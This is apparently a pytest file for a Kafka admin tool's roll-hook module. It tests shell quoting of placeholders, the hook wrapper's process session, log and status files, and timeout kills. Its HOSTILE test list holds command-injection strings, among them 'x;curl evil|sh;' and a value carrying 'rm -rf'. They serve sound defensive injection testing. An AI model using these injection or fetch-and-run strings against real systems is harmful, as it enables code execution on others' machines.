"""The operator's commands a roll runs (kadmin/services/roll_hooks.py): placeholders quoted for the shell where
they stand, /bin/sh under a wrapper in a session of its own, the output in a log file relayed line by line, a
status file that outlives kadmin, the exit code, the time bound (the whole process group killed) and the env."""

from __future__ import annotations

import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kadmin.domain.roll import RollNode
from kadmin.errors import ConfigError, UsageError
from kadmin.services import roll_hooks as hooks
from kadmin.services.roll_hooks import HookOutcome, Hooks, HookStatus

pytestmark = pytest.mark.timeout(60)

BROKER = RollNode(3, "broker", "kafka-3.example", 9093, "rack-a")
CONTROLLER = RollNode(3001, "controller")  # DescribeQuorum listed no endpoint: host and port unknown
ODD = RollNode(4, "broker", "a b'c\"d$e`f\\g", 1, "r;s")


def wait_for(fact: Callable[[], object], what: str, seconds: float = 10.0) -> None:
    deadline = time.monotonic() + seconds
    while not fact():
        assert time.monotonic() < deadline, f"not within {seconds} s: {what}"
        time.sleep(0.01)


# ------------------------------------------------------------------------------------------------ render
@pytest.mark.parametrize(("template", "node", "command"), [
    ("ssh {host} sudo systemctl restart kafka", BROKER, "ssh kafka-3.example sudo systemctl restart kafka"),
    ("stop {id} {host}:{port} rack={rack} role={role}", BROKER, "stop 3 kafka-3.example:9093 rack=rack-a role=broker"),
    ("{id}{id}", BROKER, "33"),
    # other braces are the shell's: kept as they are; {{ and }} are literal braces
    ("for i in {1..3}; do echo ${HOME} {a,b} {} {{id}} {{x}}; done", BROKER,
     "for i in {1..3}; do echo ${HOME} {a,b} {} {id} {x}; done"),
    ("awk '{print $1}' /etc/{role}s", BROKER, "awk '{print $1}' /etc/brokers"),
    ("{ echo {id}; } && x=${x:-{ }", BROKER, "{ echo 3; } && x=${x:-{ }"),
    ("${{id}}", BROKER, "${id}"),
    ("no placeholder at all", BROKER, "no placeholder at all"),
    # an unknown rack is empty (allowed), and still one argument; a controller's id and role are always known
    ("x --rack {rack}", RollNode(1, "broker", "h", 1), "x --rack ''"),
    ("x --rack '{rack}'", RollNode(1, "broker", "h", 1), "x --rack ''"),
    ("kadmin sandbox kill {id} # {role} {rack}", CONTROLLER, "kadmin sandbox kill 3001 # controller ''"),
    # each value quoted for where it stands
    ("x {host}", ODD, "x 'a b'\"'\"'c\"d$e`f\\g'"),
    ("x '{host}'", ODD, "x 'a b'\\''c\"d$e`f\\g'"),
    ('x "{host}"', ODD, 'x "a b\'c\\"d\\$e\\`f\\\\g"'),
    ('x "$(y {rack} "{rack}")" \'{rack}\'', ODD, 'x "$(y \'r;s\' "r;s")" \'r;s\''),
    ("x \\'{rack}", ODD, "x \\''r;s'"),  # \' outside quotes is no quote
    ('x "\\"{rack}"', ODD, 'x "\\"r;s"'),
    ("x # don't\ny {rack}", ODD, "x # don't\ny 'r;s'"),  # a comment's quote opens nothing
    ("x a#{rack}", ODD, "x a#'r;s'"),  # a # inside a word is no comment
    ("x # {host}\ny", RollNode(1, "broker", "a\nrm -rf x", 1), "x # 'a rm -rf x'\ny"),  # nor ends one
])
def test_render(template: str, node: RollNode, command: str) -> None:
    assert hooks.render(template, node) == command


def test_one_pass_a_value_is_never_substituted_again() -> None:
    node = RollNode(5, "broker", "h{id}", 9092, "{host}")
    assert hooks.render("x {rack} {host} {{rack}}", node) == "x '{host}' 'h{id}' {rack}"


@pytest.mark.parametrize("name", ["hots", "ID", "x", "_", "rack2"])
def test_an_unknown_placeholder_is_refused(name: str) -> None:
    with pytest.raises(UsageError) as e:
        hooks.render(f"echo {{{name}}} {{id}}", BROKER)
    assert int(e.value.exit_code) == 2
    assert e.value.message == (f"{{{name}}} is no placeholder (they are {{id}}, {{host}}, {{port}}, {{rack}} and "
                               f"{{role}}): write {{{{{name}}}}} for a literal brace")


@pytest.mark.parametrize(("template", "where"), [
    ("echo `x {host}`", "inside backquotes (`...`)"),
    ('echo "`x {id}`"', "inside backquotes (`...`)"),
    ("echo `x \\{host}`", "inside backquotes (`...`)"),
    ("echo ${x:-{host}}", "inside ${...}"),
    ('echo "${x:-{host}}"', "inside ${...}"),
    ("echo ${x:-'{host}'}", "inside ${...}"),
    ("echo $(({port} + 1))", "inside $((...))"),
    ('echo "$(( {port} ))"', "inside $((...))"),
    ("echo $'{host}'", "inside $'...'"),
    ("cat <<EOF\n{host}\nEOF", "after a here-document (<<)"),
    ("cat <<'EOF'\nx\nEOF\necho {id}", "after a here-document (<<)"),
    ("echo \\{host}", "right after a backslash"),
    ('echo "\\{host}"', "right after a backslash"),
    ("x=$(case a in a) echo;; esac) {host}", "after a case statement inside $(...)"),
    ("echo \"${x:-'}'}\" {id}", "after a ' inside \"${...}\""),
])
def test_a_placeholder_where_no_quoting_is_reliable_is_refused(template: str, where: str) -> None:
    with pytest.raises(UsageError) as e:
        hooks.render(template, BROKER)
    assert re.fullmatch(r"\{(\w+)\} stands (.*), where kadmin cannot quote it for the shell: move it out of there "
                        r"\(or use \"\$KADMIN_ROLL_\w+\" there\)", e.value.message), e.value.message
    assert f" stands {where}, " in e.value.message and int(e.value.exit_code) == 2


@pytest.mark.parametrize("template", ["echo `date` {id}", "echo ${HOME:-x} {id}", "echo $((1+2)) {id}",
                                      'echo "$(echo `date`)" {id}', "echo '`' {id}", "echo \\` {id}",
                                      "echo $(echo a) {id}", "echo $(case a in (a) echo;; esac)"])
def test_what_closes_before_a_placeholder_does_not_refuse_it(template: str) -> None:
    assert hooks.render(template, BROKER).endswith(("3", "esac)"))


@pytest.mark.parametrize(("template", "opened"), [("echo '{host}", "an unterminated '...'"),
                                                  ('echo "{host}', 'an unterminated "..."'),
                                                  ("echo $(x {host}", "an unterminated $(...)")])
def test_an_unterminated_quote_with_a_placeholder_is_refused(template: str, opened: str) -> None:
    with pytest.raises(UsageError, match=re.escape(f"{{host}} stands in {opened}")):
        hooks.render(template, BROKER)
    assert hooks.render("echo '", BROKER) == "echo '"  # none inside: the shell says what is wrong


@pytest.mark.parametrize(("template", "missing"), [("ssh {host} stop", "host"), ("nc -z h {port}", "port"),
                                                   ("x {id} {port} {host}", "host")])
def test_an_unknown_host_or_port_is_a_configuration_error(template: str, missing: str) -> None:
    with pytest.raises(ConfigError) as e:
        hooks.render(template, CONTROLLER)
    assert e.value.code == "placeholder_unknown" and int(e.value.exit_code) == 3
    assert e.value.message.startswith(f"node 3001 (controller): its {missing} is unknown")
    assert "{" + missing + "}" in e.value.message and "--bootstrap-controller" in e.value.message


def test_a_value_with_a_nul_byte_is_a_configuration_error() -> None:
    node = RollNode(7, "broker", "h", 1, "a\0b")
    assert hooks.render("x {host}", node) == "x h"
    with pytest.raises(ConfigError) as e:
        hooks.render("x {rack}", node)
    assert e.value.code == "placeholder_invalid" and int(e.value.exit_code) == 3
    assert e.value.message == "node 7 (broker): its rack holds a NUL byte, which no shell argument can hold"
    with pytest.raises(ConfigError, match="KADMIN_ROLL_RACK"):
        hooks.environment(node)


def test_check_templates() -> None:
    hooks.check_templates(Hooks(stop="a {host}", start="b '{rack}'"))
    hooks.check_templates(Hooks(restart="a", only_if="true"))
    hooks.check_templates(Hooks())
    for kw, flag in [({"stop": ""}, "--stop"), ({"start": "  "}, "--start"), ({"restart": "\t"}, "--restart"),
                     ({"only_if": ""}, "--only-if")]:
        with pytest.raises(UsageError, match=f"^{flag} is empty$") as e:
            hooks.check_templates(Hooks(**kw))
        assert int(e.value.exit_code) == 2
    for kw, message in [({"stop": "x {hots}"}, "--stop: {hots} is no placeholder"),
                        ({"only_if": "x `{id}`"}, "--only-if: {id} stands inside backquotes"),
                        ({"restart": "x '{id}"}, "--restart: {id} stands in an unterminated '...'")]:
        with pytest.raises(UsageError, match="^" + re.escape(message)):
            hooks.check_templates(Hooks(**kw))
    hooks.check_templates(Hooks(stop="ssh {host} stop"))  # no node: an unknown host is for the render to find


def test_render_all() -> None:
    ctl = RollNode(3001, "controller", "ctl-1", 9093)
    out = hooks.render_all(Hooks(stop="stop {id}", start="start {host}", only_if="test {id} != 2"), [BROKER, ctl])
    assert out == {(3, "stop"): "stop 3", (3, "start"): "start kafka-3.example", (3, "only_if"): "test 3 != 2",
                   (3001, "stop"): "stop 3001", (3001, "start"): "start ctl-1", (3001, "only_if"): "test 3001 != 2"}
    assert hooks.render_all(Hooks(), [BROKER]) == {}
    with pytest.raises(ConfigError) as e:
        hooks.render_all(Hooks(restart="x {id}", only_if="ping {host}"), [BROKER, CONTROLLER])
    assert e.value.code == "placeholder_unknown"
    assert e.value.message.startswith("node 3001 (controller): --only-if: its host is unknown (DescribeQuorum")
    with pytest.raises(UsageError) as u:
        hooks.render_all(Hooks(stop="x", start="x ${y:-{id}}"), [BROKER])
    assert u.value.message.startswith("node 3 (broker): --start: {id} stands inside ${...}")


# ------------------------------------------------------------------------------------------------ quoting, by a shell
SENTINEL = Path(tempfile.gettempdir()) / f"kadmin-roll-hooks-pwned-{os.getpid()}"
HOSTILE = [f"$(touch {SENTINEL})", f"`touch {SENTINEL}`", f";touch {SENTINEL};", f"';touch {SENTINEL};'",
           f"\";touch {SENTINEL};\"", f"\ntouch {SENTINEL}\n", f"'\"$(touch {SENTINEL})\"'", f"|touch {SENTINEL}",
           "x;curl evil|sh;", "{rack}", "{host}", "{{id}}", "\\", "'", '"', "$HOME", "*", "~", "-n", "%s%d"]
VALUE = st.lists(st.one_of(st.sampled_from(HOSTILE), st.sampled_from(list("'\"$`\\;|&(){}\n\t #*?~<>!=%")),
                           st.text(st.characters(exclude_characters="\0", exclude_categories=("Cs",)), max_size=6)),
                 max_size=6).map("".join)
# Each template and what it prints for (host, rack). `printf '%s\n' x{host}y`, not `echo`: dash's echo reads
# backslashes. $( ) drops the trailing newlines of what it prints, as the shell does.
TEMPLATES: list[tuple[str, Callable[[str, str], str]]] = [
    ("printf '%s\\n' {host} {rack}", lambda h, r: f"{h}\n{r}\n"),
    ("printf '%s\\n' '{host}' 'x{rack}y'", lambda h, r: f"{h}\nx{r}y\n"),
    ("sh -c 'printf \"%s\\n\" \"$1\" \"$2\"' sh '{host}' '[{rack}]'", lambda h, r: f"{h}\n[{r}]\n"),
    ('printf "%s\\n" "{host}" "<{rack}>"', lambda h, r: f"{h}\n<{r}>\n"),
    ("printf '%s\\n' \"$(printf '%s' {host})\"", lambda h, r: h.rstrip("\n") + "\n"),
    ("printf '%s\\n' \"$(printf '%s' \"$(printf '%s' '{rack}')\")\"", lambda h, r: r.rstrip("\n") + "\n"),
    ("printf '%s\\n' x{host}y", lambda h, r: f"x{h}y\n"),
    ("printf '%s\\n' {rack} # {host} don't", lambda h, r: f"{r}\n"),
]
SHELLS = ["/bin/sh", *(["bash"] if shutil.which("bash") else [])]  # bash is /bin/sh on some systems


@pytest.mark.parametrize("shell", SHELLS)
@settings(max_examples=100, deadline=None)
@given(host=VALUE.filter(bool), rack=VALUE)
def test_a_rendered_hook_passes_each_value_as_it_is(shell: str, host: str, rack: str) -> None:
    node = RollNode(1, "broker", host, 9092, rack)
    script = "\n".join(hooks.render(t, node) for t, _ in TEMPLATES)
    p = subprocess.run([shell, "-c", script], capture_output=True, timeout=20)
    try:
        assert p.returncode == 0, p.stderr
        assert p.stdout.decode(errors="surrogateescape") == "".join(want(host, rack) for _, want in TEMPLATES)
        assert not SENTINEL.exists(), f"{host!r} {rack!r} ran a command"
    finally:
        SENTINEL.unlink(missing_ok=True)


# ------------------------------------------------------------------------------------------------ run
def run(cmd: str, timeout: float = 20.0, node: RollNode = BROKER, name: str = "stop",
        env: dict[str, str] | None = None, directory: Path | None = None,
        attempt: int = 1) -> tuple[HookOutcome, list[str]]:
    said: list[str] = []
    out = hooks.run(cmd, node, name, timeout, said.append, directory=directory, attempt=attempt, env=env)
    return out, said


@pytest.mark.parametrize("code", [0, 1, 3, 9, 127])
def test_the_exit_code(code: int) -> None:
    out, _ = run(f"exit {code}")
    assert (out.code, out.ok, out.interrupted) == (code, code == 0, False)
    assert 0 <= out.seconds < 10


def test_a_command_that_does_not_exist() -> None:
    out, said = run("no-such-command-kadmin-roll-test")
    assert out.code == 127 and not out.ok
    assert "not found" in out.tail[-1]
    assert said and said[-1].startswith("node 3 stop: ")


def test_the_output_stdout_and_stderr_said_line_by_line_and_its_tail_kept() -> None:
    out, said = run("echo one; echo two >&2; echo; printf 'no newline'")
    assert out.ok
    assert out.tail == ("one", "two", "", "no newline")
    assert said == ["node 3 stop: one", "node 3 stop: two", "node 3 stop: no newline"]  # blank lines not said


def test_only_the_last_20_lines_are_kept() -> None:
    out, said = run("for i in $(seq 1 50); do echo line $i; done; exit 4")
    assert out.code == 4 and out.tail == tuple(f"line {i}" for i in range(31, 51))
    assert said == [f"node 3 stop: line {i}" for i in range(1, 51)]


def test_lines_are_said_while_the_hook_runs(tmp_path: Path) -> None:
    """The hook waits for a file the relay's `say` creates on its first line: said before the hook ended."""
    go = tmp_path / "go"
    said: list[str] = []

    def say(line: str) -> None:
        said.append(line)
        go.touch()

    out = hooks.run(f"echo first; while [ ! -e {go} ]; do sleep 0.01; done; echo second", BROKER, "start", 20, say,
                    directory=tmp_path)
    assert out.ok and said == ["node 3 start: first", "node 3 start: second"]


def test_stdin_is_empty() -> None:
    out, _ = run("cat; echo read-all")
    assert out.ok and out.tail == ("read-all",)


def test_the_environment() -> None:
    show = "printf '%s\\n' " + " ".join(f'"{v}=${{KADMIN_ROLL_{v}-unset}}"' for v in
                                         ("NODE", "ROLE", "HOST", "PORT", "RACK", "HOOK")) + ' "${EXTRA:-}"'
    out, _ = run(show, node=CONTROLLER, name="start", env={"EXTRA": "given"})
    assert out.tail == ("NODE=3001", "ROLE=controller", "HOST=", "PORT=", "RACK=", "HOOK=start", "given")
    out, _ = run(show, node=ODD, name="only-if")
    assert out.tail == ("NODE=4", "ROLE=broker", "HOST=a b'c\"d$e`f\\g", "PORT=1", "RACK=r;s", "HOOK=only-if", "")
    assert hooks.environment(BROKER) == {"KADMIN_ROLL_NODE": "3", "KADMIN_ROLL_ROLE": "broker",
                                         "KADMIN_ROLL_HOST": "kafka-3.example", "KADMIN_ROLL_PORT": "9093",
                                         "KADMIN_ROLL_RACK": "rack-a"}


def test_it_runs_under_bin_sh_in_a_session_of_its_own() -> None:
    """A Ctrl-C at the terminal reaches kadmin's process group, not the hook's: the wrapper leads a session and a
    group of its own, and the operator's /bin/sh is its child."""
    probe = f"{sys.executable} -c 'import os; print(os.getsid(0), os.getpgid(0), os.getppid())'"
    out, _ = run(f"{probe}; echo $$ $PPID; readlink /proc/$$/exe")
    sid, pgid, parent = map(int, out.tail[0].split())
    shell, wrapper = map(int, out.tail[1].split())
    assert sid == pgid == wrapper and parent == shell
    assert sid != os.getsid(0) and pgid != os.getpgid(0)
    assert os.path.realpath(out.tail[2]) == os.path.realpath("/bin/sh")


def test_the_log_file_holds_a_header_and_the_output(tmp_path: Path) -> None:
    log = hooks.log_path(tmp_path, 3, "only_if")
    assert log == tmp_path / "hooks" / "node-3.only_if.log"
    out, said = run("echo out; echo err >&2; readlink /proc/$$/fd/1 /proc/$$/fd/2 /proc/$$/fd/0", name="only-if",
                    directory=tmp_path, attempt=2)
    assert out.ok and out.tail == ("out", "err", str(log), str(log), "/dev/null")  # a file, never a pipe
    out, said = run("printf 'again\\n'  # the\tsecond", name="only-if", directory=tmp_path, attempt=3)
    assert said == ["node 3 only-if: again"]  # what the log held before is not said again
    lines = log.read_text().splitlines()
    stamp = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ"
    assert re.fullmatch(rf"==> kadmin roll: node 3 only-if attempt 2 at {stamp}: echo out; echo err >&2; .*", lines[0])
    assert lines[1:3] == ["out", "err"]
    assert re.fullmatch(rf"==> kadmin roll: node 3 only-if attempt 3 at {stamp}: printf 'again\\n'  # the\\tsecond",
                        lines[6])
    assert lines[7:] == ["again"]


def test_the_status_file_says_began_and_ended(tmp_path: Path) -> None:
    status = hooks.status_path(tmp_path, 3, "stop", 2)
    assert status == tmp_path / "hooks" / "node-3.stop.2.status"
    out, _ = run("echo $PPID; exit 3", directory=tmp_path, attempt=2)
    assert out.code == 3
    assert status.read_text() == f"began {out.tail[0]}\nended 3\n"
    assert hooks.read_status(status) == HookStatus("ended", int(out.tail[0]), 3)


def test_without_a_directory_a_temporary_one_is_removed_afterwards() -> None:
    out, _ = run("echo $PWD; dirname \"$(readlink /proc/$$/fd/1)\"")
    hooks_dir = Path(out.tail[-1])
    assert out.ok and hooks_dir.name == "hooks" and not hooks_dir.parent.exists()


def test_a_status_file_it_cannot_write_means_the_command_never_ran(tmp_path: Path) -> None:
    status = hooks.status_path(tmp_path, 3, "stop", 1)
    status.mkdir(parents=True)
    ran = tmp_path / "ran"
    out, _ = run(f"touch {ran}", directory=tmp_path)
    assert out.code == 125 and not ran.exists()
    assert hooks.read_status(status) == HookStatus("not_begun")
    assert hooks.describe_status(hooks.read_status(status), "--stop") == \
        "the --stop hook never ran: its wrapper could not record its start"


@pytest.mark.parametrize(("text", "state", "code"), [
    ("", "not_begun", None), ("beg", "not_begun", None), ("began 12", "not_begun", None),  # torn
    ("began x\n", "not_begun", None), ("ended 0\n", "not_begun", None),
    ("began 1\nended 4\n", "ended", 4), ("began 1\nended 130\nended 4\n", "ended", 130),
    ("began 1\nended 255", "cut_short", None),  # a torn end is no end; pid 1 is alive, and no wrapper of this file
    ("void 42\n", "void", None), ("void 42\nbegan 7\n", "void", None),  # a later kadmin took the attempt over
])
def test_read_status_of_a_file(tmp_path: Path, text: str, state: str, code: int | None) -> None:
    path = tmp_path / "node-1.stop.1.status"
    assert hooks.read_status(path) == HookStatus("absent")
    path.write_text(text)
    assert (hooks.read_status(path).state, hooks.read_status(path).code) == (state, code)


def test_an_attempt_taken_over_before_its_wrapper_began_never_runs_its_command(tmp_path: Path) -> None:
    """A later kadmin creates the status file of an attempt with no file (`take_over`): the wrapper of that attempt,
    should the dead kadmin have started it, finds the file and exits 125 without running the command; had the
    wrapper been first, the take-over is refused."""
    status = hooks.status_path(tmp_path, 3, "stop", 1)
    assert hooks.take_over(status)
    assert hooks.read_status(status) == HookStatus("void", os.getpid())
    assert hooks.describe_status(hooks.read_status(status), "--stop") == \
        f"the --stop hook never ran: a later kadmin (pid {os.getpid()}) took its attempt over before it began"
    ran = tmp_path / "ran"
    out, _ = run(f"touch {ran}", directory=tmp_path)
    assert out.code == 125 and not ran.exists()
    assert out.tail[-1].startswith("kadmin roll: not run: ") and str(status) in out.tail[-1]
    assert hooks.read_status(status).state == "void"
    out, _ = run("exit 0", directory=tmp_path, attempt=2)  # the next attempt has a file of its own
    assert out.ok
    assert not hooks.take_over(hooks.status_path(tmp_path, 3, "stop", 2))  # its wrapper was first


def test_a_status_file_its_wrapper_created_but_has_not_written_yet_is_running(tmp_path: Path) -> None:
    """The wrapper creates the file, then writes `began`: in between, the file is empty and the wrapper alive."""
    path = tmp_path / "node-1.stop.1.status"
    path.write_text("")
    proc = subprocess.Popen(["/bin/sh", "-c", "sleep 30; :", "kadmin-hook", "cmd", str(path)],  # names the file
                            start_new_session=True)
    try:
        wait_for(lambda: hooks.read_status(path).state == "running", "the wrapper's argv")
        assert hooks.read_status(path) == HookStatus("running", proc.pid)
    finally:
        # the shell and the child it forked for `sleep`, which carries the shell's argv until its exec (a loaded
        # machine can leave it there): while either lives, the wrapper is rightly "running"
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
    wait_for(lambda: hooks.read_status(path).state != "running", "the wrapper and the child it forked gone")
    assert hooks.read_status(path) == HookStatus("not_begun")


def test_a_live_pid_that_is_not_the_wrapper_is_not_running(tmp_path: Path) -> None:
    path = tmp_path / "s"
    path.write_text(f"began {os.getpid()}\n")  # a reused pid: alive, but its argv does not name the file
    assert hooks.read_status(path) == HookStatus("cut_short", os.getpid())


def start_hook(tmp_path: Path, cmd: str) -> tuple[threading.Thread, list[HookOutcome], Path]:
    """`run` on a thread, as the roll does; once the wrapper has written its `began`."""
    outcomes: list[HookOutcome] = []
    t = threading.Thread(target=lambda: outcomes.append(hooks.run(cmd, BROKER, "restart", 30, lambda _: None,
                                                                  directory=tmp_path)), daemon=True)
    t.start()
    status = hooks.status_path(tmp_path, 3, "restart", 1)
    wait_for(lambda: hooks.read_status(status).state == "running", "the hook running")
    return t, outcomes, status


def test_running_then_ended(tmp_path: Path) -> None:
    stop = tmp_path / "stop"
    t, outcomes, status = start_hook(tmp_path, f"while [ ! -e {stop} ]; do sleep 0.01; done; exit 6")
    running = hooks.read_status(status)
    assert running.pid is not None and running.code is None
    assert hooks.describe_status(running, "--restart") == f"the --restart hook is still running (pid {running.pid})"
    assert hooks.wait_ended(status, 0.2) == running  # still running at its timeout
    stop.touch()
    assert hooks.wait_ended(status, 10) == HookStatus("ended", running.pid, 6)
    t.join(10)
    assert outcomes[0].code == 6


def test_cut_short_when_its_process_group_is_killed(tmp_path: Path) -> None:
    t, outcomes, status = start_hook(tmp_path, "while :; do sleep 0.01; done")
    pid = hooks.read_status(status).pid
    assert pid is not None
    os.killpg(pid, signal.SIGKILL)  # the wrapper leads the group
    wait_for(lambda: hooks.read_status(status).state != "running", "the wrapper gone")
    assert hooks.read_status(status) == HookStatus("cut_short", pid)
    assert hooks.describe_status(hooks.read_status(status), "--restart") == \
        f"the --restart hook was cut short: it began (pid {pid}) and was killed before it ended"
    t.join(10)
    assert outcomes[0].code == -signal.SIGKILL


def test_wait_ended_polls_every_tenth_of_a_second(tmp_path: Path) -> None:
    path = tmp_path / "s"
    proc = subprocess.Popen(["/bin/sh", "-c", "sleep 30; :", "kadmin-hook", "cmd", str(path)])  # no exec
    try:
        cmdline = Path(f"/proc/{proc.pid}/cmdline")
        wait_for(lambda: str(path).encode() in cmdline.read_bytes(), "its argv in place")  # right after the exec
        path.write_text(f"began {proc.pid}\n")
        now = [0.0]
        naps: list[float] = []

        def sleep(s: float) -> None:
            naps.append(s)
            now[0] += s
            if len(naps) == 30:
                with path.open("a") as f:
                    f.write("ended 2\n")

        assert hooks.wait_ended(path, 0.95, sleep, lambda: now[0]) == HookStatus("running", proc.pid)
        assert naps == [0.1] * 10
        assert hooks.wait_ended(path, 60.0, sleep, lambda: now[0]) == HookStatus("ended", proc.pid, 2)
        assert len(naps) == 30
        assert hooks.wait_ended(tmp_path / "none", 60.0, sleep, lambda: now[0]) == HookStatus("absent")
    finally:
        proc.kill()
        proc.wait()


KADMIN = """
import sys
from pathlib import Path
from kadmin.domain.roll import RollNode
from kadmin.services import roll_hooks
roll_hooks.run(sys.argv[1], RollNode(3, "broker", "h", 1), "stop", 60, lambda line: print(line, flush=True),
               directory=Path(sys.argv[2]))
"""


def test_a_hook_outlives_a_killed_kadmin(tmp_path: Path) -> None:
    """kadmin SIGKILLed while its hook prints: the hook goes on writing its log (no pipe, no SIGPIPE) and its
    wrapper records its end."""
    cmd = "i=0; while [ $i -lt 40 ]; do i=$((i+1)); echo line $i; sleep 0.025; done"
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    kadmin = subprocess.Popen([sys.executable, "-c", KADMIN, cmd, str(tmp_path)], stdout=subprocess.PIPE, env=env)
    assert kadmin.stdout is not None
    assert kadmin.stdout.readline() == b"node 3 stop: line 1\n"  # relayed: kadmin watches it
    kadmin.kill()
    kadmin.wait()
    kadmin.stdout.close()
    status = hooks.status_path(tmp_path, 3, "stop", 1)
    assert hooks.read_status(status).state == "running", hooks.read_status(status)
    ended = hooks.wait_ended(status, 60)  # 40 `sleep` processes: seconds on a loaded machine
    assert ended.state == "ended" and ended.code == 0, ended
    assert hooks.describe_status(ended, "--stop") == "the --stop hook ended with exit 0 while no kadmin was watching"
    assert hooks.log_path(tmp_path, 3, "stop").read_text().splitlines()[1:] == [f"line {i}" for i in range(1, 41)]


def alive(pid: int) -> bool:
    """Running (a zombie is gone for this purpose)."""
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat.rsplit(")", 1)[1].split()[0] != "Z"


def test_over_the_timeout_the_whole_process_group_is_killed(tmp_path: Path) -> None:
    pids = tmp_path / "pids"
    cmd = f"sleep 60 & echo $! >> {pids}; (sleep 60; echo never) & echo $! >> {pids}; echo $$ >> {pids}; wait"
    t0 = time.monotonic()
    out, _ = run(cmd, timeout=1.0, directory=tmp_path)
    assert out.code is None and not out.ok
    assert 0.9 <= out.seconds < 8 and time.monotonic() - t0 < 10
    started = [int(p) for p in pids.read_text().split()]
    assert len(started) == 3
    wait_for(lambda: not any(alive(p) for p in started), "a hook's child survived the time-out", 5)
    assert "never" not in out.tail
    assert hooks.read_status(hooks.status_path(tmp_path, 3, "stop", 1)).state == "cut_short"
    why = hooks.describe(out, "--stop", "the-cmd", 1.0)
    assert why == "the --stop hook `the-cmd` did not return within 1 s (killed)"


@pytest.mark.timeout(30)
def test_a_hook_that_ignores_sigterm_is_killed(tmp_path: Path) -> None:
    """SIGTERM first (the wrapper dies of it); what is still there of the group 5 s later gets SIGKILL."""
    pids = tmp_path / "pids"
    out, _ = run(f"trap '' TERM; echo $$ > {pids}; sleep 60 & echo $! >> {pids}; wait; wait", timeout=0.5)
    assert out.code is None and 5.0 <= out.seconds < 15
    started = [int(p) for p in pids.read_text().split()]
    wait_for(lambda: not any(alive(p) for p in started), "a hook's child survived the SIGKILL", 5)


def test_describe() -> None:
    assert hooks.describe(HookOutcome(3, ("a", "last words", "  "), 0.1, False), "--start", "go {id}", 600) == \
        "the --start hook `go {id}` exited 3: last words"
    assert hooks.describe(HookOutcome(1, (), 0.1, False), "--stop", "x", 600) == "the --stop hook `x` exited 1"
    assert hooks.describe(HookOutcome(None, ("slow",), 2.5, False), "--restart", "x", 2.5) == \
        "the --restart hook `x` did not return within 2.5 s (killed): slow"
    assert hooks.describe_status(HookStatus("absent"), "--start") == \
        "the --start hook left no status file: it was never started"
    assert hooks.describe_status(HookStatus("ended", 9, 3), "--stop") == \
        "the --stop hook ended with exit 3 while no kadmin was watching"
